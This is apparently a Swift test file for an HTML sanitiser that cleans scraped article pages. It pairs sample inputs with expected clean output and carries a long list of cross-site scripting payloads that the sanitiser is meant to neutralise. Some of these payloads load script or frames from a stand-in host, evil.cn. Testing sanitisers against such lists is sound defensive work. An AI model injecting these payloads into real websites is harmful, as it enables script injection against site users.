/// HTML on http://www.example.cn/a/list.html, and what is published of it.
enum SanitiserTables {
    static let exact = """
        plain text => plain text
        a < b => a &lt; b
        a &amp; b &lt;c&gt; => a &amp; b &lt;c&gt;
        &nbsp;x => \u{A0}x
        &#20013;&#x56FD; => 中国
        <p>x</p> => <p>x</p>
        <P CLASS=a ID=b STYLE="color:red">x</P> => <p>x</p>
        <p>one<p>two => <p>one</p><p>two</p>
        <div><p></p></div> => (nothing)
        <p>&nbsp;</p><p>　</p><p>x</p> => <p>x</p>
        <p><br></p><p>x</p> => <p>x</p>
        <p><span style="x">a</span><font color=red>b</font></p> => <p>ab</p>
        <section><h2>a</h2><article>b</article></section> => <div><h2>a</h2><div>b</div></div>
        <b>a<b>b</b></b> => <b>ab</b>
        a<b> </b>c => a c
        <strong>a</strong><em>b</em> => <strong>a</strong><em>b</em>
        <a href="/x">y</a> => <a href="http://www.example.cn/x">y</a>
        <a href="b.html" target=_blank class=c onclick="x()">y</a> => <a href="http://www.example.cn/a/b.html">y</a>
        <a href="javascript:void(0)">y</a> => y
        <a href="#top">y</a> => y
        <a name="top">y</a> => y
        <a href="mailto:a@b.cn">y</a> => <a href="mailto:a@b.cn">y</a>
        <a href="MAILTO:a@b.cn">y</a> => <a href="mailto:a@b.cn">y</a>
        <a href="x"></a>z => z
        <a href="x" title="t&quot;u">y</a> => <a href="http://www.example.cn/a/x" title="t&quot;u">y</a>
        <a href="?a=1&b=2">y</a> => <a href="http://www.example.cn/a/list.html?a=1&amp;b=2">y</a>
        <img src="x.jpg"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <img src=x.jpg alt=猫 width=600 height=400 style=x onerror=y> => <img src="http://www.example.cn/a/x.jpg" alt="猫" width="600" height="400">
        <img src="loading.gif" data-src="x.jpg"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <img src="/img/grey.gif" data-original="/x.jpg"> => <img src="http://www.example.cn/x.jpg" alt="">
        <img data-echo="x.jpg" src="data:image/gif;base64,R0lGOD"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <img _src="x.jpg"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <img oldsrc="y.jpg" src="./W020230410.jpg"> => <img src="http://www.example.cn/a/W020230410.jpg" alt="">
        <img oldsrc="x.jpg"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <img srcset="s.jpg 300w, l.jpg 900w"> => <img src="http://www.example.cn/a/l.jpg" alt="">
        <img srcset="s.jpg 1x,l.jpg 2x" src="blank.gif"> => <img src="http://www.example.cn/a/l.jpg" alt="">
        <img data-srcset="s.jpg 300w,\\nl.jpg 900w" src="s.jpg"> => <img src="http://www.example.cn/a/l.jpg" alt="">
        <img src="loading.gif"> => (nothing)
        <img src="data:image/png;base64,AAAA"> => (nothing)
        <img src="count.php" width=1 height=1> => (nothing)
        <img src="count.php" width="0"> => (nothing)
        <img src="count.php" style="display: none"> => (nothing)
        <img src="x.jpg" width="100%"> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <picture><source srcset=x.webp><img src=x.jpg></picture> => <img src="http://www.example.cn/a/x.jpg" alt="">
        <p>a<noscript><img src=x.jpg></noscript></p> => <p>a</p>
        <p>a<script>b</script>c</p> => <p>ac</p>
        <style>p{}</style>a => a
        <iframe src=x>y</iframe>a => a
        <form action=x>a<input value=b><button>c</button></form> => <div>a</div>
        <select><option>a</select>b => b
        <textarea><b>a</b></textarea>b => b
        <svg><script>a</script><text>b</text></svg>c => c
        <math><mi>a</mi></math>b => b
        <ul><li>a<li>b</ul> => <ul><li>a</li><li>b</li></ul>
        <li>a</li> => <div>a</div>
        <ol start=3><li>a</ol> => <ol start="3"><li>a</li></ol>
        <dl><dt>a<dd>b</dl> => <dl><dt>a</dt><dd>b</dd></dl>
        <table><tr><td colspan=2 width=9>a<td>b</table> => <table><tbody><tr><td colspan="2">a</td><td>b</td></tr></tbody></table>
        <table><tr><td></td><td>b</table> => <table><tbody><tr><td></td><td>b</td></tr></tbody></table>
        <table><tr><td></td></tr></table>x => x
        <pre>\\n\\na\\n b</pre> => <pre>\\n\\na\\n b</pre>
        <h1>a<h2>b</h2></h1> => <h1>a</h1><h2>b</h2>
        <blockquote>a</blockquote><hr>b => <blockquote>a</blockquote><hr>b
        a<br>b => a<br>b
        <center>a</center> => <div>a</div>
        <video src=x.mp4 autoplay>a</video> => <video src="http://www.example.cn/a/x.mp4" controls="">a</video>
        <video><source src=x.mp4></video> => <video src="http://www.example.cn/a/x.mp4" controls=""></video>
        <audio src="javascript:x">a</audio> => a
        <time datetime="2023-04-10">4月10日</time> => <time datetime="2023-04-10">4月10日</time>
        <!-- a -->b<!--[if IE]>c<![endif]--> => b
        <?xml version="1.0"?>b => b
        <!DOCTYPE html><html><head><title>a</title></head><body>b</body></html> => b
        <x-y>a</x-y> => a
        <p>a <a href=x>b <a href=y>c</a></p> => <p>a <a href="http://www.example.cn/a/x">b </a><a href="http://www.example.cn/a/y">c</a></p>
        """

    static let attacks = """
        <script>alert(1)</script>
        <SCRIPT SRC=http://evil.cn/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script/src=data:,alert(1)>
        <<script>alert(1);//<</script>
        <script>alert(1)//
        <script
        </script><script>alert(1)</script>
        <img src=x onerror=alert(1)>
        <img src="javascript:alert(1)">
        <IMG SRC=JaVaScRiPt:alert(1)>
        <IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
        <IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>
        <IMG SRC="jav&#x09;ascript:alert(1);">
        <IMG SRC="jav&#x0A;ascript:alert(1);">
        <IMG SRC=" &#14;  javascript:alert(1);">
        <IMG SRC=`javascript:alert(1)`>
        <IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">
        <img/src=x/onerror=alert(1)>
        <img src=x:x onerror=alert(1)//
        <img src='x'onerror='alert(1)'>
        <img srcset="javascript:alert(1) 2x">
        <img data-src="javascript:alert(1)">
        <img alt="`><script>alert(1)</script>">
        <img alt="x&quot; onerror=&quot;alert(1)" src=x.jpg>
        <img dynsrc="javascript:alert(1)">
        <img lowsrc="javascript:alert(1)">
        <image src=x onerror=alert(1)>
        <svg onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><use href="data:image/svg+xml;base64,AAAA#x">
        <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mi//xlink:href="data:x,<script>alert(1)</script>">
        <math href="javascript:alert(1)">x</math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src="http://evil.cn">
        <frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD4=">
        <embed src="javascript:alert(1)">
        <applet code=x>y</applet>
        <base href="javascript:alert(1)//">
        <link rel=stylesheet href="javascript:alert(1)">
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <style>@import 'javascript:alert(1)';</style>
        <style><!--</style><script>alert(1)//--></script>
        <div style="background:url(javascript:alert(1))">x</div>
        <div style="width:expression(alert(1))">x</div>
        <p style="behavior:url(#default#time2)" onmouseover=alert(1)>x</p>
        <a href="javascript:alert(1)">x</a>
        <a href="JAVASCRIPT:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="java&Tab;script:alert(1)">x</a>
        <a href="java&NewLine;script:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="feed:javascript:alert(1)">x</a>
        <a href="view-source:javascript:alert(1)">x</a>
        <a href="mailto:x@y.cn&quot;onclick=alert(1)">x</a>
        <a href='mailto:x@y.cn"><script>alert(1)</script>'>x</a>
        <a href="http://evil.cn/&quot; onclick=&quot;alert(1)">x</a>
        <a href=http://x.cn/`onclick=alert(1)>x</a>
        <a onclick=alert(1) href=x>x</a>
        <a href="//evil.cn/%22onclick=alert(1)">x</a>
        <button formaction="javascript:alert(1)">x</button>
        <form action="javascript:alert(1)"><input type=submit></form>
        <input onfocus=alert(1) autofocus>
        <isindex type=image src=1 onerror=alert(1)>
        <select onfocus=alert(1) autofocus><option>x</select>
        <textarea onfocus=alert(1)></textarea><img src=x onerror=alert(1)>
        <textarea></textarea><script>alert(1)</script>
        <title></title><script>alert(1)</script>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
        <noframes><script>alert(1)</script></noframes>
        <xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
        <plaintext><script>alert(1)</script>
        <template><script>alert(1)</script></template>
        <video src=x onerror=alert(1)></video>
        <video><source onerror=alert(1)></video>
        <video poster=javascript:alert(1)></video>
        <audio src=javascript:alert(1) onerror=alert(1)>
        <details open ontoggle=alert(1)>x</details>
        <marquee onstart=alert(1)>x</marquee>
        <body onload=alert(1)>x
        <html onmouseover=alert(1)>x
        <table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
        <table><td><script>alert(1)</script></table>
        <bgsound src="javascript:alert(1)">
        <layer src="http://evil.cn/x.html"></layer>
        <xml><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml>
        <?php echo '<script>alert(1)</script>' ?>
        <!--<img src="--><img src=x onerror=alert(1)//">
        <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
        <![CDATA[<script>alert(1)</script>]]>
        <!DOCTYPE x [<!ENTITY y "z">]><script>alert(1)</script>
        <x onclick=alert(1)>x</x>
        <p/onclick=alert(1)>x</p>
        <p onclick
        <p "onclick=alert(1)">x</p>
        <p =onclick=alert(1)>x</p>
        <p x="><script>alert(1)</script>">y</p>
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        %3Cscript%3Ealert(1)%3C/script%3E
        ¼script¾alert(1)¼/script¾
        <time datetime='"><script>alert(1)</script>'>x</time>
        <abbr title='x" onclick="alert(1)'>x</abbr>
        <q cite="javascript:alert(1)">x</q>
        <ol start="1 onclick=alert(1)"><li>x</ol>
        <td colspan='1" onclick="alert(1)'>x</td>
        <dialog open onclose=alert(1)>x</dialog>
        <portal src="javascript:alert(1)">
        <a href="x" ping="http://evil.cn" download>x</a>
        <img src="http://evil.cn/?" usemap="#x"><map name=x><area href="javascript:alert(1)"></map>
        """.replacing("\n        ", with: "\n")

    /// Tags and texts that parsers treat each in its own way.
    static let pieces = [
        "<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<i>", "</i>", "<a href=x>", "</a>",
        "<ul>", "</ul>", "<li>", "</li>", "<dl>", "<dd>", "<dt>", "</dl>", "<table>", "</table>",
        "<tr>", "</tr>", "<td>", "</td>", "<th>", "<tbody>", "</tbody>", "<caption>", "</caption>",
        "<h1>", "</h1>", "<h3>", "</h3>", "<pre>", "</pre>", "\n", " ", "x", "大", "&nbsp;",
        "<br>", "<hr>", "</br>", "</p>", "<img src=x.jpg>", "<button>", "</button>", "<object>",
        "</object>", "<marquee>", "</marquee>", "<form>", "</form>", "<section>", "</section>",
        "<svg>", "</svg>", "<math>", "</math>", "<select>", "</select>", "<option>", "<template>",
        "</template>", "<blockquote>", "</blockquote>", "<code>", "</code>", "<nobr>", "<font>",
        "</font>", "<span>", "</span>", "<address>", "</address>", "<ruby>", "<rt>", "<center>",
        "<details>", "<summary>", "</details>", "<ol>", "</ol>", "<video src=y>", "</video>",
        "<applet>", "<td><a href=y>", "<textarea>", "<frameset>", "<col>", "<foreignObject>",
        "<fieldset>", "<listing>", "<figure>", "<figcaption>", "</figure>", "<em>", "</em>",
        "<!--x-->",
        "<strike>", "<s>", "</s>", "<strong>", "\u{C}", "\r", "&#13;", "&#0;", "\u{0}", "<image>",
    ]
}
